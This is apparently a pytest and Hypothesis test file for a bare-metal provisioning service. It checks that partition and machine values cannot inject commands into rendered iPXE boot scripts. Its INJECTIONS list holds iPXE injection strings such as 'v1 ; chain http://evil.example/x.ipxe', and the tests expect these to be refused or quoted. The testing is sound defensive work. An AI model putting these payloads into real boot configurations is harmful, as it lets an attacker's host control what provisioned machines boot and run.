"""Whatever the API is given, a machine's boot.ipxe runs the commands its
template says, in the order it says, with the words the template itself writes.

Values are generated for every field that reaches a boot script (the
partition's id and boot config, the machine's id and partition, properties an
operator's template reads), from pieces that mean something to iPXE. The
rendered script is read as iPXE reads it (tests/ipxe_script.py, written from
iPXE's sources) and compared with the script rendered from plain values.
"""

import dataclasses
import textwrap

import pytest
import sqlalchemy
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from metalboot_framework.store import models
from tests import ipxe_script
from tests.conftest import machine_body

MARK = "MARK"  # in every plain value, in no word the template writes itself
PLAIN = {"kernel_url": f"http://{MARK}.example/vmlinuz",
         "initrd_url": f"http://{MARK}.example/initrd",
         "metal_boot_url": f"http://{MARK}.example/boot",
         "metal_hammer_version": MARK, "cmdline": MARK}
BOOT_FIELDS = tuple(PLAIN)
INJECTIONS = ["v1 ; chain http://evil.example/x.ipxe", "v1 || chain http://evil.example/x.ipxe",
              "v1 && chain http://evil.example/x.ipxe", "v1 #", "v1\nchain http://evil.example/x",
              "v1\\", ":label", "v1\x00 tail"]

# Pieces that iPXE reads as more than text, and some that it does not.
SPECIAL = ["||", "&&", ";", "#", ":", "\\", "${", "}", "${}", "${net0/mac}", " ", "\t", "\n",
           "\r", "\r\n", "\v", "\f", "\x00", "\x1b", "\x7f", "\u00a0", "\u2028", "é"]
piece = st.one_of(st.sampled_from(SPECIAL), st.text("aZ09.-_+/=%", min_size=1, max_size=6),
                  st.text(max_size=3))
text = st.lists(piece, max_size=8).map("".join)
url = st.one_of(text, text.map(lambda t: "http://images.example/" + t))


def _field(valid, generated):
    """A valid value half of the time, so that a request whose other fields
    are valid often carries one generated value."""
    return st.one_of(st.just(valid), generated)


boot_config = st.fixed_dictionaries({}, optional={
    "kernel_url": _field("http://images.example/vmlinuz", st.one_of(st.none(), url)),
    "initrd_url": _field("http://images.example/initrd", st.one_of(st.none(), url)),
    "metal_boot_url": _field("http://boot.example/", st.one_of(st.none(), url)),
    "cmdline": _field("console=ttyS0", text),
    "metal_hammer_version": _field("v1", st.one_of(st.none(), text,
                                                   st.sampled_from(INJECTIONS)))})
partition_id = st.one_of(st.just("pn\n"), text,
                         st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._-]{0,20}", fullmatch=True))
machine_id = _field("00000000-0000-4000-8000-0000000000aa", st.one_of(st.uuids().map(str), text))
json_value = st.one_of(text, st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), text),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(text, inner, max_size=3),
    max_leaves=6))
properties = st.dictionaries(st.sampled_from(["rack", "site", "console", "other"]), json_value,
                             max_size=3)

# An operator's template that writes properties (and then the built-in script).
PROPERTIES_TEMPLATE = textwrap.dedent("""\
    #!ipxe
    echo metalboot: rack {{ machine.properties.get("rack", "none") }} in {{ partition.properties.get("site", "none") }}
    set console {{ machine.properties.get("console", "tty0") }}
    {% include "boot.ipxe.j2" %}
    """)  # noqa: E501

HYPOTHESIS = dict(deadline=None, database=None,
                  suppress_health_check=[HealthCheck.function_scoped_fixture,
                                         HealthCheck.too_slow])


@pytest.fixture
def conf(conf, tmp_path):
    templates = tmp_path / "templates"
    templates.mkdir()
    (templates / "properties.ipxe.j2").write_text(PROPERTIES_TEMPLATE)
    conf.set_override("template_dir", str(templates), group="artifacts")
    conf.set_override("enabled_boot_interfaces", ["fake", "fake-alt"])
    return conf


def _structure(commands):
    return [(c.line, c.label, c.words[:1], c.connector) for c in commands]


def _is_subsequence(wanted, words):
    it = iter(words)
    return all(any(word == w for w in it) for word in wanted)


def assert_same_commands(script, plain):
    """``script`` runs the commands of ``plain`` (same template, plain values)
    in the same order, each with the words the template writes itself."""
    got, want = ipxe_script.commands(script), ipxe_script.commands(plain)
    assert _structure(got) == _structure(want), script
    for command, expected in zip(got, want, strict=True):
        fixed = [ipxe_script.expand(word) for word in expected.words if MARK not in word]
        expanded = [ipxe_script.expand(word) for word in command.words]
        assert _is_subsequence(fixed, expanded), (command, expected)


def _plain(partition, machine, plain_id=True):
    """``partition`` and ``machine`` with a plain value wherever they hold one."""
    changes = {name: PLAIN[name] for name in BOOT_FIELDS if getattr(partition, name)}
    partition = dataclasses.replace(partition, id=MARK if plain_id else partition.id,
                                    properties={k: MARK for k in partition.properties},
                                    **changes)
    machine = dataclasses.replace(machine, properties={k: MARK for k in machine.properties})
    return partition, machine


def _check_served(app, services, machine_id, interface="fake"):
    """GET the machine's boot.ipxe as a machine would; compare with plain values."""
    task = services.task(machine_id, interface)
    r = app.test_client().get(task.artifact_url("boot.ipxe").split("6480", 1)[1])
    assert r.status_code == 200
    partition, machine = _plain(task.partition, task.machine)
    plain = services.render_boot_script(machine, partition, interface, task.token)
    assert_same_commands(r.data.decode(), plain)


@settings(max_examples=100, **HYPOTHESIS)
@given(pid=partition_id, boot=_field({"kernel_url": "http://images.example/k"}, boot_config),
       mid=machine_id)
def test_registered_values_never_change_the_commands(app, api, services, pid, boot, mid):
    r = api.post("/v1/partitions", json={"id": pid, "boot": boot})
    assert r.status_code in (201, 409, 422), r.json
    if r.status_code != 201:
        return
    body = machine_body(1, partition=pid)
    body["id"] = mid
    r = api.post("/v1/machines", json=body)
    assert r.status_code in (201, 422), r.json
    if r.status_code == 201:
        _check_served(app, services, r.json["id"])
        assert api.delete(f"/v1/machines/{r.json['id']}?force=true").status_code == 204
    assert api.delete(f"/v1/partitions/{pid}").status_code == 204


@settings(max_examples=100, **HYPOTHESIS)
@given(boot=boot_config)
def test_changed_boot_config_never_changes_the_commands(app, api, services, partition, boot):
    mid = machine_body(1)["id"]
    if not api.get(f"/v1/machines/{mid}").status_code == 200:
        assert api.post("/v1/machines", json=machine_body(1)).status_code == 201
    r = api.patch("/v1/partitions/p1", json={"boot": boot})
    assert r.status_code in (200, 422), r.json
    _check_served(app, services, mid)


@settings(max_examples=100, **HYPOTHESIS)
@given(machine_properties=properties, partition_properties=properties)
def test_properties_an_operator_template_writes_never_change_the_commands(
        app, api, services, conf, partition, machine_properties, partition_properties):
    conf.set_override("boot_script_template", "properties.ipxe.j2", group="artifacts")
    mid = machine_body(1)["id"]
    if not api.get(f"/v1/machines/{mid}").status_code == 200:
        assert api.post("/v1/machines", json=machine_body(1)).status_code == 201
    for url, given_properties in ((f"/v1/machines/{mid}", machine_properties),
                                  ("/v1/partitions/p1", partition_properties)):
        r = api.patch(url, json={"properties": given_properties})
        assert r.status_code in (200, 422), r.json  # 422: a NUL character
    _check_served(app, services, mid)


@settings(max_examples=200, **HYPOTHESIS)
@given(pid=text, version=text, cmdline=text, kernel=url, initrd=url, boot_url=url,
       machine_properties=properties)
def test_values_no_grammar_checked_are_quoted(services, conf, partition_info, machine_info,
                                              pid, version, cmdline, kernel, initrd,
                                              boot_url, machine_properties):
    """Values stored before a grammar was tightened, or written by an
    operator's template from free-form properties: quoted, not trusted."""
    conf.set_override("boot_script_template", "properties.ipxe.j2", group="artifacts")
    partition = dataclasses.replace(partition_info, id=pid, metal_hammer_version=version,
                                    cmdline=cmdline, kernel_url=kernel, initrd_url=initrd,
                                    metal_boot_url=boot_url)
    machine = dataclasses.replace(machine_info, properties=machine_properties)
    script = services.render_boot_script(machine, partition, "fake", "t0ken")
    plain_partition, plain_machine = _plain(partition, machine)
    assert_same_commands(script, services.render_boot_script(
        plain_machine, plain_partition, "fake", "t0ken"))


@settings(max_examples=100, **HYPOTHESIS)
@given(pid=st.one_of(text, st.sampled_from(INJECTIONS)))
def test_the_virtual_media_script_quotes_the_partition_id(services, pid):
    from metalboot_redfish import iso
    interface = "redfish-virtual-media-ipxe"
    from metalboot_framework.task import PartitionInfo
    assert_same_commands(
        iso.render_script(services, PartitionInfo(pid, None, None, "", None, None, {}),
                          interface),
        iso.render_script(services, PartitionInfo(MARK, None, None, "", None, None, {}),
                          interface))


@pytest.fixture
def machine_info(services, api, partition):
    mid = api.post("/v1/machines", json=machine_body(1)).json["id"]
    return services.task(mid, "fake").machine


@pytest.fixture
def partition_info(services, machine_info):
    return services.task(machine_info.id, "fake").partition


@pytest.mark.parametrize("version", INJECTIONS)
def test_the_reported_injections_are_refused(api, partition, version):
    r = api.post("/v1/partitions", json={"id": "p2", "boot": {"metal_hammer_version": version}})
    assert r.status_code == 422, r.json
    assert list(r.json["error"]["fields"]) == ["boot.metal_hammer_version"]
    r = api.patch("/v1/partitions/p1", json={"boot": {"metal_hammer_version": version}})
    assert r.status_code == 422, r.json
    assert list(r.json["error"]["fields"]) == ["boot.metal_hammer_version"]
    assert api.get("/v1/partitions/p1").json["boot"]["metal_hammer_version"] == "v0.13.0"


# (PostgreSQL stores no NUL: test_values_no_grammar_checked_are_quoted renders those.)
@pytest.mark.parametrize("version", [v for v in INJECTIONS if "\x00" not in v])
def test_a_stored_injection_is_quoted(app, api, services, partition, version):
    """A value stored before the grammar existed runs no command of its own."""
    mid = api.post("/v1/machines", json=machine_body(1)).json["id"]
    with services.db.write() as session:
        session.execute(sqlalchemy.update(models.Partition).where(
            models.Partition.id == "p1").values(metal_hammer_version=version))
    _check_served(app, services, mid)


def test_a_quoted_word_expands_to_itself():
    from metalboot_framework import ipxe
    for word in ("||", "&&", ";", "#x", ":x", "x\\"):
        quoted = ipxe.quote(word)
        assert quoted != word and ipxe_script.expand(quoted) == word
